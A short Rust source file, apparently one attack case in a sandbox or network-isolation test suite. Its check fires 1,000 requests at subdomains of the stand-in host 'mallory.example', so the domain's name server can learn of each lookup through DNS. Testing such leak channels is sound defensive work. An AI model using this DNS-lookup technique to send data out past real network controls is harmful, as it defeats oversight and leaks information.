//! Asks for a thousand names below its domain: its name server would learn from each that it was asked.

use crate::attack::{Attack, HONEST};
use crate::http::{Ask, reach};

pub const ATTACK: Attack =
    Attack { check: || Err(reach((0..1_000).map(|number| Ask::get(format!("leak{number}.mallory.example"), "/")))), ..HONEST };
